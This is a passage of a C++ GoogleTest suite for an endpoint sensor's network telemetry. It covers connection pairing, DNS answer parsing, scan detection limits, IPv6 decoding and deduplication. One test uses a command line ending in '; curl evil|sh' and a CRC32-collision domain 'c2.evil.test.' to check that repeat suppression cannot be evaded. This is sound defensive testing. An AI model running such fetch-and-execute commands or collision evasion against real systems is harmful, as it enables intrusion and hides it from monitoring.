// The network module end to end: connection, listen, reset and DNS records assembled by hand
// from the layout tables, injected into the stand-in's rings, paired, limited and printed
// for the host's upload callback. The clock is driven.
#include <arpa/inet.h>
#include <gtest/gtest.h>

#include <array>
#include <chrono>
#include <cstring>
#include <fstream>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "limit_drops_text.h"
#include "base/mem.h"
#include "comm/fhash.h"
#include "crc_twin.h"
#include "comm/timer.h"
#include "e2e_host.h"
#include "log/ulog.h"
#include "net/dns_parse.h"
#include "net/net.h"
#include "net/net_event.h"
#include "proc_bytes.h"
#include "qxkiv/digest.h"
#include "qxkiv/kemu.h"
#include "qxkiv/process_query.h"
#include "qxkiv/qxkiv.h"
#include "staged_tree.h"
#include "test_io.h"
#include "startup/startup.h"

namespace {

using bytes = std::vector<unsigned char>;

// ---- records from the layout tables ------------------------------------------------------

struct conn_rec {
    int type = 8;  // conn_out
    uint32_t pid = 300;
    uint64_t create_time = 5300;
    uint16_t family = 2, proto = 6;
    std::string sip = "10.0.0.5", dip = "93.184.216.34";
    uint16_t sport = 40000, dport = 443;
    std::string dns_name;  // dns_req
    bytes dns_msg;         // dns_rsp
    int msg_len_delta = 0;
};

// A 16-byte address field: IPv6 text fills it, IPv4 text its first four bytes.
void put_addr(proc_bytes &w, const std::string &ip) {
    unsigned char a[16] = {};
    inet_pton(ip.find(':') != std::string::npos ? AF_INET6 : AF_INET, ip.c_str(), a);
    for (unsigned char c : a) w.u8(c);
}
void put_be16(proc_bytes &w, uint16_t v) {
    w.u8(v >> 8), w.u8(v & 0xff);
}
void set_len(bytes &b) {
    b[4] = (unsigned char)b.size(), b[5] = (unsigned char)(b.size() >> 8);
}

bytes build_conn(const conn_rec &r) {
    proc_bytes w;
    w.u32(0xFEDCCDEF), w.u16(0), w.u16(r.type), w.u32(r.pid), w.u32(0);   // 0..15
    w.u64(r.create_time), w.u32(r.pid), w.u16(r.family), w.u16(r.proto);  // 16..31
    put_be16(w, r.sport), put_be16(w, r.dport);                           // 32..35
    put_addr(w, r.sip), put_addr(w, r.dip);                               // 36..67
    w.u32(0);                                                             // 68..71
    if (r.type == 10) {
        for (size_t i = 0; i < 256; i++) w.u8(i < r.dns_name.size() ? r.dns_name[i] : 0);
    } else if (r.type == 11) {
        w.u16((unsigned)(r.dns_msg.size() + r.msg_len_delta));
        w.b.insert(w.b.end(), r.dns_msg.begin(), r.dns_msg.end());
    }
    if (r.type != 10 && r.type != 11) w.b.resize(68);
    set_len(w.b);
    return w.b;
}

// Family 10 carries the whole 16-byte address at 32; otherwise 4 bytes and the family 0.
bytes build_listen(uint32_t pid, uint64_t ct, const std::string &ip, uint16_t port) {
    proc_bytes w;
    bool v6 = ip.find(':') != std::string::npos;
    w.u32(0xFEDCCDEF), w.u16(0), w.u16(6), w.u32(pid), w.u32(0);
    w.u64(ct), w.u32(pid), w.u16(v6 ? 10 : 0), put_be16(w, port);
    put_addr(w, ip);
    w.b.resize(v6 ? 48 : 36);
    set_len(w.b);
    return w.b;
}

bytes build_rst(uint8_t direction, uint8_t state, const std::string &sip, uint16_t sport,
                const std::string &dip, uint16_t dport) {
    proc_bytes w;
    w.u32(0xFEDCCDEF), w.u16(0), w.u16(12), w.u32(0);
    w.u16(sip.find(':') != std::string::npos ? 10 : 0), w.u8(direction), w.u8(state);  // 12..15
    put_be16(w, sport), put_be16(w, dport);
    put_addr(w, sip), put_addr(w, dip);
    set_len(w.b);
    return w.b;
}

bytes read_vector(const std::string &name) {
    std::ifstream in(std::string(KIV_TEST_DATA_DIR) + "/dns/" + name + ".bin", std::ios::binary);
    return bytes(std::istreambuf_iterator<char>(in), {});
}

// The ports and addresses end to end are in NetE2E's documents; here what those do not reach.
TEST(NetRecord, AddressesDecodedFromTheLayout) {
    conn_rec r;
    r.sip = "192.168.1.2", r.dip = "8.8.4.4", r.sport = 0xabcd, r.dport = 53;
    bytes b = build_conn(r);
    ASSERT_EQ(b.size(), 68u);
    // IPv4 text as inet_ntop writes it, at every digit count of every byte.
    for (uint32_t v : {0u, 0xffffffffu, 0x0a006409u, 0x09630a64u, 0x7f000001u, 0xc0a80102u}) {
        unsigned char a[4] = {(unsigned char)(v >> 24), (unsigned char)(v >> 16),
                              (unsigned char)(v >> 8), (unsigned char)v};
        char ours[NET_IP_TEXT_LEN], libc[INET_ADDRSTRLEN];
        ASSERT_TRUE(net_ip_text(a, AF_INET, ours));
        EXPECT_STREQ(ours, inet_ntop(AF_INET, a, libc, sizeof libc));
    }

    // The pairing key keeps the wire order of the ports; connected_hash's turns them.
    net_pair_key k;
    net_pair_key_from(b.data(), false, &k);
    EXPECT_EQ(memcmp(&k, b.data() + 36, 32), 0);
    EXPECT_EQ(k.sport, htons(0xabcd));
    net_pair_key_from(b.data(), true, &k);
    EXPECT_EQ(k.sport, 0xabcd);

    // A family other than 10 is never decoded, IPv6 on or off.
    r.family = 7, r.sip = "2001:db8::5";
    for (uint32_t ipv6 : {0u, 1u}) {
        g_net_config.ipv6 = ipv6;
        pn_info v6{};
        get_inet_from_event(build_conn(r).data(), &v6);
        EXPECT_EQ(v6.net.sport, 0u);
        EXPECT_STREQ(v6.net.sip, "");
    }
    g_net_config.ipv6 = 0;
}

// The join of answers and the server named when none came are NetE2E's DNS documents';
// here the bound no document reaches.
TEST(NetRecord, QueryResultsBound) {
    pn_info pn{};
    char out[4096];
    // 300 addresses of up to 15 characters overflow 4095: the last that fit are kept whole.
    std::vector<dnsa_record> recs(300);
    std::vector<std::array<uint8_t, 4>> data(300);
    for (int i = 0; i < 300; i++) {
        data[i] = {200, 100, (uint8_t)(i / 100), (uint8_t)(100 + i % 100)};
        recs[i] = dnsa_record{};
        recs[i].type = DNSA_KIND_A, recs[i].data_len = htons(4), recs[i].data = data[i].data();
        recs[i].next = i + 1 < 300 ? &recs[i + 1] : nullptr;
    }
    recs[1].type = DNSA_KIND_CNAME;  // not an address: skipped
    dns_query_results(&pn, &recs[0], out);
    std::string s = out;
    EXPECT_LE(s.size(), 4095u);
    EXPECT_EQ(s.rfind("200.100.0.100,200.100.0.102,", 0), 0u);
    EXPECT_NE(s.back(), ',');
}

// ---- end to end -------------------------------------------------------------------------

size_t count(int type) {
    return docs(type).size();
}

// Entries of a pairing table, read as the module reads them.
uint32_t pending(fhash *net_conext::*table, std::shared_mutex net_conext::*lock) {
    std::shared_lock g(g_net_conext.*lock);
    return (g_net_conext.*table)->count;
}
uint32_t pending_connects() {
    return pending(&net_conext::tcp_connect_hash, &net_conext::tcp_connect_lock);
}
uint32_t pending_queries() {
    return pending(&net_conext::dns_query_hash, &net_conext::dns_query_lock);
}

void inject(const bytes &m) {
    ASSERT_EQ(kemu_inject(KEMU_RING_MID, m.data(), (uint32_t)m.size()), KEMU_OK);
}

std::string value_of(const std::string &doc, const std::string &key) {
    size_t at = doc.find("\"" + key + "\":");
    if (at == std::string::npos) return "";
    at += key.size() + 3;
    if (doc[at] == '"') return doc.substr(at + 1, doc.find('"', at + 1) - at - 1);
    return doc.substr(at, doc.find_first_of(",}", at) - at);
}

const std::string kEnvelope =
    "{\"send_time\":\"2026-01-02 03:04:05\",\"send_timestamp\":1767323045123,"
    "\"host_uuid\":\"uuid-1\",\"host_ip\":\"10.0.0.1\",\"ip_list\":\"10.0.0.1\","
    "\"seq_id\":\"7\",\"app_name\":\"opx-linux\",\"message\":{\"record_time\":"
    "\"2026-01-02 03:04:05\",\"record_timestamp\":1767323045123,";

struct NetE2E : ::testing::Test {
    staged_tree tree{"kernel_mode = emulated\ncollector_task_num = 1\n"};
    void start(const std::string &keys = "") {
        staged_tree::set_keys(tree.net_conf(), keys);
        for (uint32_t i = NET_TOTAL_CAP; i <= NET_DNSA_PARSE_FAIL; i++) g_usensor_stats[i] = 0;
        for (uint32_t i = NET_TOTAL_LRU_EVICT; i <= NET_LIMIT_NOTICE; i++) g_usensor_stats[i] = 0;
        kiv_timer_set_source(fake_clock);
        ASSERT_TRUE(host_start(capture, fixed_header));
        ASSERT_EQ(inject_root_process(300, 5300, "/usr/bin/client --go", "/nonexistent/client"),
                  KEMU_OK);
        ASSERT_TRUE(wait_for([] { return count(UPLOAD_PROC_EXEC) == 1; }));
        clear_uploads();
    }
    void TearDown() override { host_stop(); }
    // Lets the framework thread's one-second timer run once per step.
    void advance(uint64_t ms, uint64_t step = 1000) {
        for (uint64_t done = 0; done < ms; done += step) {
            uint32_t runs = net_timer_runs();
            s_now_ms += step;
            wait_for([runs] { return net_timer_runs() > runs; });
        }
    }
    std::string proc_keys(const std::string &doc) const {
        return "\"process_id\":300,\"process_guid\":\"" + value_of(doc, "process_guid") +
               "\",\"process_path\":\"/nonexistent/client\",\"process_md5\":\"" +
               std::string(32, '0') + "\",\"process_sha256\":\"" + std::string(64, '0') +
               "\",\"process_createtime\":5300,\"process_cmd_line\":\"/usr/bin/client --go\","
               "\"process_group_name\":\"root\",\"process_user_name\":\"root\"";
    }
};

TEST_F(NetE2E, ConnectPairedWithItsEstablishment) {
    start("community_id = 1\n");
    conn_rec c;
    inject(build_conn(c));
    conn_rec e = c;
    e.type = 9, e.pid = 0;  // the establishment runs in softirq: no process of its own
    inject(build_conn(e));
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_CONNECT) == 1; }));
    std::string doc = docs(UPLOAD_NET_CONNECT)[0];
    EXPECT_EQ(
        doc,
        kEnvelope + "\"event_id\":\"NETWORK_CONNECTION\",\"event_name\":\"Network Connection\"," +
            proc_keys(doc) + ",\"process_path_permit\":\"" + value_of(doc, "process_path_permit") +
            "\",\"protocol\":\"tcp\",\"src_ip\":\"10.0.0.5\",\"src_port\":40000,"
            "\"dst_ip\":\"93.184.216.34\",\"dst_port\":443,\"connect\":1,"
            "\"direction\":1,\"container_id\":\"host\","
            "\"community_id\":\"1:o1q3426YsZckS4RtWWWtADfs0VY=\",\"proc_trees\":[]}}");

    // The establishment first, then its connect: parked once, then paired.
    conn_rec c2 = c;
    c2.sport = 40001, c2.dip = "93.184.216.36";  // another destination: nothing merges
    conn_rec e2 = c2;
    e2.type = 9;
    inject(build_conn(e2));
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    inject(build_conn(c2));
    ASSERT_TRUE(wait_for([] { return pending_connects() == 1; }));
    advance(2000);
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_CONNECT) == 2; }));
    EXPECT_EQ(value_of(docs(UPLOAD_NET_CONNECT)[1], "connect"), "1");
    EXPECT_EQ(value_of(docs(UPLOAD_NET_CONNECT)[1], "src_port"), "40001");

    // An establishment that never finds its connect is dropped after its one wait.
    conn_rec lone = c;
    lone.type = 9, lone.sport = 40002;
    inject(build_conn(lone));
    advance(3000);
    EXPECT_EQ(count(UPLOAD_NET_CONNECT), 2u);

    // A connect never established goes out with connect 0 once it is older than 6 seconds.
    conn_rec never = c;
    never.sport = 40003, never.dip = "93.184.216.35";
    inject(build_conn(never));
    ASSERT_TRUE(wait_for([] { return pending_connects() == 1; }));
    advance(6000);
    EXPECT_EQ(count(UPLOAD_NET_CONNECT), 2u);
    advance(2000);
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_CONNECT) == 3; }));
    std::string late = docs(UPLOAD_NET_CONNECT)[2];
    EXPECT_EQ(value_of(late, "connect"), "0");
    EXPECT_EQ(value_of(late, "dst_ip"), "93.184.216.35");

    // A stop frees what still waits, and says how much: records in must balance records out.
    conn_rec cut = c;
    cut.sport = 40004, cut.dip = "93.184.216.37";
    inject(build_conn(cut));
    ASSERT_TRUE(wait_for([] { return pending_connects() == 1; }));
    sensor_exit();
    EXPECT_NE(tree.read("logs/sensor.log")
                  .find("1 network records still waiting for their pair at stop, not uploaded"),
              std::string::npos);
}

TEST_F(NetE2E, AcceptedConnectionAndListeningSocket) {
    start("community_id = 0\n");
    conn_rec a;
    a.type = 7, a.sip = "10.0.0.5", a.sport = 22, a.dip = "203.0.113.9", a.dport = 51000;
    inject(build_conn(a));
    inject(build_listen(300, 5300, "0.0.0.0", 8080));
    inject(build_listen(300, 5300, "0.0.0.0", 8080));  // the same port and program: merged
    ASSERT_TRUE(wait_for([] {
        return count(UPLOAD_NET_CONNECT) == 1 && count(UPLOAD_NET_LISTENING) == 1 &&
               kiv_stat_get(NET_LISTEN_CAP) >= 2;
    }));
    std::string in = docs(UPLOAD_NET_CONNECT)[0];
    // The peer that connected is the source; the host's own end is the destination.
    EXPECT_NE(in.find("\"src_ip\":\"203.0.113.9\",\"src_port\":51000,\"dst_ip\":\"10.0.0.5\","
                      "\"dst_port\":22,\"connect\":1,\"direction\":0,"),
              std::string::npos)
        << in;
    EXPECT_EQ(in.find("community_id"), std::string::npos) << in;
    std::string l = docs(UPLOAD_NET_LISTENING)[0];
    EXPECT_EQ(l, kEnvelope + "\"event_id\":\"LISTENING\",\"event_name\":\"listening\"," +
                     proc_keys(l) +
                     ",\"protocol\":\"tcp\",\"src_ip\":\"0.0.0.0\",\"src_port\":8080,"
                     "\"container_id\":\"host\",\"proc_trees\":[]}}");
    EXPECT_GE(kiv_stat_get(NET_UPLOAD_MERGE), 1);
}

// The growth, cycle total and rebuild of the destination table are FullDestinationTable's.
TEST_F(NetE2E, PerDestinationCapSparesDns) {
    start("single_net_upload_limit = 2\nnet_total_lru = 0\n");
    taken_limit_drops();
    conn_rec u;
    u.type = 5, u.proto = 17, u.dport = 9999;
    auto send = [&](const std::string &sip, const std::string &dip, uint16_t dport = 9999) {
        u.sip = sip, u.dip = dip, u.dport = dport;
        inject(build_conn(u));
    };
    // Distinct sources so that nothing merges: the third upload to one destination is refused.
    for (const char *s : {"10.0.0.11", "10.0.0.12", "10.0.0.13"}) send(s, "198.51.100.1");
    ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_UPLOAD_OVERLIMIT) == 1; }));
    EXPECT_EQ(count(UPLOAD_NET_CONNECT), 2u);
    // DNS is never held back by the destination limits. An unbound socket's source is reported
    // as the host's address.
    for (const char *s : {"10.0.0.11", "10.0.0.12", "0.0.0.0"}) send(s, "198.51.100.1", 53);
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_CONNECT) == 5; }));
    EXPECT_EQ(value_of(docs(UPLOAD_NET_CONNECT)[4], "src_ip"), "10.0.0.1");
    EXPECT_EQ(taken_limit_drops(), "NET_UPLOAD_OVERLIMIT any dest 198.51.100.1:9999 +1\n");
}

TEST_F(NetE2E, DnsQueryAnsweredAndABadAnswerDropped) {
    start("community_id = 1\n");
    // The vector's question is web.example.test, a CNAME chain ending in two addresses.
    conn_rec q;
    q.type = 10, q.proto = 17, q.sip = "127.0.0.1", q.sport = 41000, q.dip = "127.0.0.1";
    q.dport = 53, q.dns_name = "web.example.test";
    inject(build_conn(q));
    conn_rec r = q;
    r.type = 11, r.dns_name.clear(), r.dns_msg = read_vector("a_cname_chain");
    ASSERT_FALSE(r.dns_msg.empty());
    inject(build_conn(r));
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 1; }));
    std::string d = docs(UPLOAD_DNS_QUERY)[0];
    EXPECT_EQ(d, kEnvelope + "\"event_id\":\"DNS_QUERY\",\"event_name\":\"DNS Query\"," +
                     proc_keys(d) + ",\"process_path_permit\":\"" +
                     value_of(d, "process_path_permit") +
                     "\",\"connect\":1,\"src_ip\":\"127.0.0.1\",\"src_port\":41000,"
                     "\"query_name\":\"web.example.test\",\"query_status\":1,"
                     "\"container_id\":\"host\",\"query_results\":\"192.0.2.20,192.0.2.21\","
                     "\"protocol\":\"udp\",\"dst_ip\":\"127.0.0.1\",\"dst_port\":53,"
                     "\"community_id\":\"1:HMwI99W3/rhs6kEMBbciC0xFrcI=\",\"proc_trees\":[]}}");
    // Over UDP the query is also a connection.
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_CONNECT) == 1; }));

    // An answer whose stated length runs past its record is dropped; the next one is read.
    conn_rec q2 = q;
    q2.sport = 41001, q2.dns_name = "www.example.test";
    inject(build_conn(q2));
    conn_rec bad = q2;
    bad.type = 11, bad.dns_msg = read_vector("a_single"), bad.msg_len_delta = 1;
    inject(build_conn(bad));
    bad.msg_len_delta = 0;
    inject(build_conn(bad));
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 2; }));
    EXPECT_EQ(value_of(docs(UPLOAD_DNS_QUERY)[1], "query_results"), "192.0.2.10");
    // The second UDP query went to the same server from the same program: merged.
    EXPECT_EQ(count(UPLOAD_NET_CONNECT), 1u);
    // A query never answered, and one replaced on its socket, are
    // SecondQueryOnOneSocketNeverHidesTheFirst's.
}

TEST_F(NetE2E, ScanRecordsLimitedAndOrdinaryResetsFiltered) {
    start();
    // A scan as the kernel reports it needs no process.
    inject(build_rst(0, 0, "198.51.100.66", 61000, "10.0.0.5", 3389));
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_SCAN) == 1; }));
    EXPECT_EQ(docs(UPLOAD_NET_SCAN)[0],
              kEnvelope +
                  "\"event_id\":\"NET_SCAN\",\"event_name\":\"NET Scan\","
                  "\"protocol\":\"tcp\",\"src_ip\":\"198.51.100.66\","
                  "\"dst_ip\":\"10.0.0.5\",\"src_port\":61000,\"dst_port\":3389,"
                  "\"direction\":0}}");
    // Resets that end connections the module does not know are not scans.
    for (uint16_t p = 1; p <= 5; p++) inject(build_rst(1, 1, "10.0.0.5", p, "198.51.100.9", 80));
    ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_SCAN_CAP) >= 6; }));
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    EXPECT_EQ(count(UPLOAD_NET_SCAN), 1u);
    // 20 scan records a second at most, per peer with netscan_per_peer; off, for all peers.
    taken_limit_drops();
    for (uint32_t per_peer : {1u, 0u}) {
        advance(1000);
        {
            std::lock_guard g(g_net_conext.netscan_count_mutex);  // the collector reads it so
            g_net_config.netscan_per_peer = per_peer;
        }
        const size_t before = count(UPLOAD_NET_SCAN);
        const int64_t seen = kiv_stat_get(NET_SCAN_CAP);
        for (uint16_t p = 1; p <= 25; p++)
            inject(build_rst(0, 0, "198.51.100.67", 60000, "10.0.0.5", p));
        inject(build_rst(0, 0, "198.51.100.68", 60000, "10.0.0.5", 1));  // another peer
        ASSERT_TRUE(wait_for([&] { return kiv_stat_get(NET_SCAN_CAP) >= seen + 26; }));
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
        EXPECT_EQ(count(UPLOAD_NET_SCAN) - before, per_peer ? 21u : 20u);
    }
    EXPECT_EQ(kiv_stat_get(NET_SCAN_SPEED_LIMIT), 11);
    EXPECT_EQ(kiv_stat_get(NET_SCAN_PEER_LIMIT), 5);
    EXPECT_EQ(taken_limit_drops(),
              "NET_SCAN_SPEED_LIMIT any peer - +6\n"
              "NET_SCAN_SPEED_LIMIT any peer 198.51.100.67 +5\n");
    // A reset against a connect still waiting for its establishment is AttackNetLimits'
    // refused connects.
}

// IPv6 records end to end: with the key, addresses of family 10 in every document kind and
// AAAA answers; without it, what an IPv4-only reading of the same bytes gives.
TEST_F(NetE2E, Ipv6RecordsDecodedOnlyWithTheKey) {
    for (bool on : {true, false}) {
        SCOPED_TRACE(on ? "ipv6 = 1" : "ipv6 = 0");
        if (!on) {
            host_stop();
            clear_uploads();
        }
        start(on ? "ipv6 = 1\n" : "ipv6 = 0\n");
        conn_rec a;
        a.type = 7, a.family = 10, a.sip = "2001:db8::5", a.sport = 22, a.dip = "2001:db8::9";
        a.dport = 51000;
        inject(build_conn(a));
        inject(build_listen(300, 5300, "::", 8443));
        inject(build_rst(0, 0, "2001:db8::66", 61000, "2001:db8::5", 3389));
        conn_rec q;
        q.type = 10, q.family = 10, q.proto = 17, q.sip = "::1", q.sport = 41000, q.dip = "::1";
        q.dport = 53, q.dns_name = "v6.example.test";
        inject(build_conn(q));
        conn_rec r = q;
        r.type = 11, r.dns_name.clear(), r.dns_msg = read_vector("aaaa_only");
        inject(build_conn(r));
        ASSERT_TRUE(wait_for([] {
            return count(UPLOAD_NET_LISTENING) == 1 && count(UPLOAD_NET_SCAN) == 1 &&
                   kiv_stat_get(NET_DNSA_CAP) >= 1 && count(UPLOAD_NET_CONNECT) >= 1;
        }));
        std::string in = docs(UPLOAD_NET_CONNECT)[0];
        EXPECT_NE(in.find(on ? "\"src_ip\":\"2001:db8::9\",\"src_port\":51000,"
                               "\"dst_ip\":\"2001:db8::5\",\"dst_port\":22,"
                             : "\"src_ip\":\"\",\"src_port\":0,\"dst_ip\":\"\",\"dst_port\":0,"),
                  std::string::npos)
            << in;
        // Off, the listener's address is read as the first four bytes, as for any listener.
        EXPECT_EQ(value_of(docs(UPLOAD_NET_LISTENING)[0], "src_ip"), on ? "::" : "0.0.0.0");
        std::string scan = docs(UPLOAD_NET_SCAN)[0];
        EXPECT_EQ(value_of(scan, "src_ip"), on ? "2001:db8::66" : "32.1.13.184");
        EXPECT_EQ(value_of(scan, "dst_ip"), on ? "2001:db8::5" : "32.1.13.184");
        if (on) {
            ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 1; }));
            std::string d = docs(UPLOAD_DNS_QUERY)[0];
            EXPECT_EQ(value_of(d, "src_ip"), "::1");
            EXPECT_EQ(value_of(d, "query_results"), "2001:db8::6");
        } else {
            // No IPv4 answer: the query waits and goes out unanswered at its time-out.
            EXPECT_EQ(kiv_stat_get(NET_DNSA_PARSE_FAIL), 1);
        }
    }
}

// Records of a process nobody can describe are each lost (counted); with net_owner_backoff
// the burst asks for it once, without it every record asks.
TEST_F(NetE2E, RecordsOfAProcessThatIsGoneAskForItOnce) {
    size_t seen = 0;
    for (int backoff : {0, 1}) {
        SCOPED_TRACE(backoff);
        start("net_owner_backoff = " + std::to_string(backoff) + "\n");
        const int64_t lost = kiv_stat_get(NET_PROC_INFO_LOST);
        conn_rec u;
        u.type = 5, u.proto = 17, u.pid = 3999999, u.create_time = 77;  // no such process
        for (uint16_t i = 0; i < 6; i++) {
            u.dport = (uint16_t)(7000 + i);
            inject(build_conn(u));
        }
        ASSERT_TRUE(wait_for([&] { return kiv_stat_get(NET_PROC_INFO_LOST) == lost + 6; }));
        // Another process's record still goes through.
        conn_rec ok;
        ok.type = 5, ok.proto = 17;
        inject(build_conn(ok));
        ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_CONNECT) == 1; }));
        ulog_save_once();
        std::string log = tree.read("logs/sensor_all.log");
        size_t n = 0;
        for (size_t at = seen;
             (at = log.find("get process info failed,pid:3999999", at)) != std::string::npos; at++)
            n++;
        seen = log.size();
        EXPECT_EQ(n, backoff ? 1u : 6u);
        host_stop();
    }
}

TEST_F(NetE2E, ShortRecordsAndFullTables) {
    start("tcp_connect_hash_size = 1\ndns_query_hash_size = 1\ndns_pair_by_name = 0\n");
    conn_rec a;
    a.type = 7;
    bytes cut = build_conn(a);
    cut.resize(60);
    set_len(cut);
    inject(cut);
    bytes rst = build_rst(0, 0, "198.51.100.1", 1, "10.0.0.5", 2);
    rst.resize(40);
    set_len(rst);
    inject(rst);
    inject(build_conn(a));
    ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_CONNECT) == 1; }));
    EXPECT_EQ(kiv_stat_get(NET_ACCEPT_CAP), 1);
    EXPECT_EQ(kiv_stat_get(NET_SCAN_CAP), 0);

    // One pending connect fills its table: the second is dropped and counted.
    conn_rec c;
    inject(build_conn(c));
    c.sport = 40001;
    inject(build_conn(c));
    ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_TCP_CONNECT_HASH_FULL) == 1; }));
    // A query that finds its table full is not reported as a UDP send either.
    conn_rec q;
    q.type = 10, q.proto = 17, q.dport = 53, q.dns_name = "a.example.test";
    inject(build_conn(q));
    q.sport = 40002, q.dns_name = "b.example.test";
    inject(build_conn(q));
    ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_DNSQ_HASH_FULL) == 1; }));
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    EXPECT_EQ(count(UPLOAD_NET_CONNECT), 2u);
    // A query name without its terminator inside the record is refused.
    q.sport = 40003, q.dns_name = std::string(256, 'x');
    inject(build_conn(q));
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    EXPECT_EQ(kiv_stat_get(NET_DNSQ_CAP), 2);
}

// With repeat_key_full a checksum twin is never a repeat, nor is a longer command or another
// user's; off, the first 171 characters count and their checksum decides, as they always did.
TEST_F(NetE2E, RepeatKeysMatchOnTheirTextNotOnAChecksum) {
    start();
    const std::string honest = "update.example.test";
    const std::string twin = crc_twin_plain("c2.evil.test.", honest);
    ASSERT_EQ(mordek_crc32(twin.data(), twin.size()), mordek_crc32(honest.data(), honest.size()));
    process_st_public p{};
    snprintf(p.md5, sizeof p.md5, "%s", std::string(32, 'a').c_str());
    const std::string prefix(171, 'x');
    snprintf(p.cmd_line, sizeof p.cmd_line, "%s", (prefix + "; echo benign").c_str());
    net_info n{};
    snprintf(n.sip, sizeof n.sip, "10.0.0.5");
    snprintf(n.dip, sizeof n.dip, "10.0.0.53");
    n.dport = 53;
    for (uint32_t full : {0u, 1u}) {
        SCOPED_TRACE(full);
        g_net_config.repeat_key_full = full;
        n.sport = 0, n.dport = 53 + full;  // each round its own entries
        EXPECT_EQ(check_send_time(&p, &n, honest.c_str()), 0);
        EXPECT_EQ(check_send_time(&p, &n, honest.c_str()), -1);
        const int64_t twins = kiv_stat_get(NET_REPEAT_KEY_MISMATCH);
        EXPECT_EQ(check_send_time(&p, &n, twin.c_str()), full ? 0 : -1);
        EXPECT_EQ(kiv_stat_get(NET_REPEAT_KEY_MISMATCH) > twins, full == 1);
        // The same first 171 characters, another command after them; then another user.
        process_st_public other = p;
        snprintf(other.cmd_line, sizeof other.cmd_line, "%s", (prefix + "; curl evil|sh").c_str());
        EXPECT_EQ(check_send_time(&other, &n, honest.c_str()), full ? 0 : -1);
        other = p;
        other.ids[0] = other.ids[1] = 65534;
        EXPECT_EQ(check_send_time(&other, &n, honest.c_str()), full ? 0 : -1);
        // Looking a key up does not remember it.
        EXPECT_EQ(send_time_check(&p, &n, "peek.example.test", false), 0);
        EXPECT_EQ(check_send_time(&p, &n, "peek.example.test"), 0);
    }
}

// Under net_total_lru a full destination table forgets its least recently used entry, and
// the cycle's total still counts what the forgotten ones sent. 12100 destinations against
// the shipped sizes, filled over eleven minute checks, leave room for root's next one; off,
// that one is refused.
TEST_F(NetE2E, FullDestinationTableForgetsTheLeastRecentlyUsed) {
    start("net_total_upload_limit = 1000000\n");
    ASSERT_EQ(g_net_config.net_total_hash_size, 10240u);
    net_info n{};
    n.dport = 8080;
    auto dest = [&n](uint32_t i) {
        snprintf(n.dip, sizeof n.dip, "127.%u.%u.%u", 1 + i / 65536, (i / 256) % 256, i % 256);
        return &n;
    };
    auto upload = [&](uint32_t i) {
        if (check_net_cnt(dest(i)) != 0) return false;
        inc_net_total_hash(&n);
        return true;
    };
    for (uint32_t lru : {0u, 1u}) {
        SCOPED_TRACE(lru);
        g_net_config.net_total_lru = lru;
        net_cnt_timer_func(7200);  // rebuild
        uint32_t refused = 0;
        for (uint32_t minute = 1, i = 0; minute <= 11; minute++) {
            for (uint32_t k = 0; k < 1100; k++, i++) refused += !upload(i);
            net_cnt_timer_func(60 * minute);
        }
        EXPECT_EQ(g_net_config.net_cnt_hash_limit, 10240u);
        EXPECT_EQ(g_net_conext.net_total_hash->count, 10240u);
        EXPECT_EQ(upload(999999), lru == 1);  // root's new destination
        EXPECT_EQ(refused > 0, lru == 0);
    }
    EXPECT_EQ(kiv_stat_get(NET_TOTAL_LRU_EVICT), 12100 + 1 - 10240);

    // Recency, not age: the destination used again stays, the idle one goes.
    g_net_config.net_cnt_hash_limit = g_net_config.net_total_hash_increase_gap = 2;
    g_net_config.net_total_upload_limit = 6;
    net_cnt_timer_func(7200);
    ASSERT_TRUE(upload(1) && upload(2) && upload(1));
    ASSERT_TRUE(upload(3));               // forgets 2
    EXPECT_TRUE(upload(1) && upload(2));  // 2 is new again, forgets 3
    g_net_config.single_net_upload_limit = 3;
    EXPECT_FALSE(upload(1));  // 1 kept its three uploads
    // Six uploads counted, two of them by forgotten destinations: the cycle's total is met.
    net_cnt_timer_func(60);
    EXPECT_EQ(g_net_stop_upload.load(), 1);
    net_limit_minute();
    ulog_save_once();
    EXPECT_TRUE(has(tree.read("logs/sensor_all.log"),
                    "limit: connection documents dropped by the destination limits: "
                    "destination 127.1.0.1:8080 over 3 this cycle, 1 in the last minute"));
}

bytes dns_answer(uint16_t id, const std::string &name, uint8_t last) {
    bytes m = {(uint8_t)(id >> 8), (uint8_t)id, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0};
    for (size_t at = 0; at <= name.size();) {
        size_t dot = std::min(name.find('.', at), name.size());
        m.push_back((uint8_t)(dot - at));
        m.insert(m.end(), name.begin() + (long)at, name.begin() + (long)dot);
        at = dot + 1;
    }
    const uint8_t rest[] = {0, 0, 1, 0,  1, 0xC0, 12,  0, 1, 0,   1,
                            0, 0, 0, 60, 0, 4,    192, 0, 2, last};
    m.insert(m.end(), rest, rest + sizeof rest);
    return m;
}

// Two queries back to back on one socket: by name each pairs with its own answer, or goes
// out alone after its time-out; off, the second replaces the first. A query the full table
// cannot hold goes out at once.
TEST_F(NetE2E, SecondQueryOnOneSocketNeverHidesTheFirst) {
    start(
        "dns_query_hash_size = 2\ndns_pair_by_name = 1\ncommunity_id = 1\ncommunity_id_seed = 1\n");
    conn_rec q;
    q.type = 10, q.proto = 6, q.sip = "127.0.0.1", q.sport = 42000, q.dip = "127.0.0.1";
    q.dport = 53;
    auto ask = [&](const std::string &name) {
        q.dns_name = name, q.type = 10;
        inject(build_conn(q));
    };
    auto answer = [&](const std::string &name, uint8_t last) {
        conn_rec r = q;
